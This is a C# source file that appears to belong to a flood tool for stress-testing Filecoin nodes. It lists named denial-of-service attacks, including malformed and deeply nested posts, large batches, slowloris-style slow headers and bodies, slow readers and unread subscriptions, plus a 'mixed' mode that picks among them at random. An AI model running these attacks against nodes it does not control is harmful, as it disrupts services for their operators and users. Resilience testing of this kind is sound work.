namespace Filecoin.Flood;

/// <summary>A way to do a node harm.</summary>
/// <param name="Name">What it is called.</param>
/// <param name="Run">What a connection does, once; it is done again and again.</param>
internal sealed record Attack(string Name, Func<HostileConnections, Task> Run)
{
    private static readonly Attack[] All =
    [
        new("malformed", flood => flood.Post(HostileTexts.Malformed)),
        new("nesting", flood => flood.Post(HostileTexts.Nesting)),
        new("batches", flood => flood.Post(HostileTexts.Batches)),
        new("wide", flood => flood.Post(HostileTexts.Wide)),
        new("calls", flood => flood.Post(HostileTexts.Calls)),
        new("new-calls", flood => flood.PostOnce(HostileTexts.Calls[0])),
        new("slow-heads", flood => flood.WriteSlowly(
            "POST / HTTP/1.1\r\nHost: "u8.ToArray())),
        new("slow-bodies", flood => flood.WriteSlowly(
            "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n"u8.ToArray())),
        new("slow-readers", flood => flood.PostWithoutReading(HostileTexts.LargeAnswers)),
        new("sockets", flood => flood.AskWithoutReading(HostileTexts.SocketCalls)),
        new("subscriptions", flood => flood.AskWithoutReading([HostileTexts.Subscribe])),
    ];

    /// <summary>The names of all.</summary>
    public static string Names => string.Join('\n', All.Select(attack => attack.Name));

    /// <summary>The one with a name; null if there is none. All in turn is "mixed".</summary>
    public static Attack? Find(string name) => name == "mixed"
        ? new(name, flood => All[flood.Next() % All.Length].Run(flood))
        : Array.Find(All, attack => attack.Name == name);
}
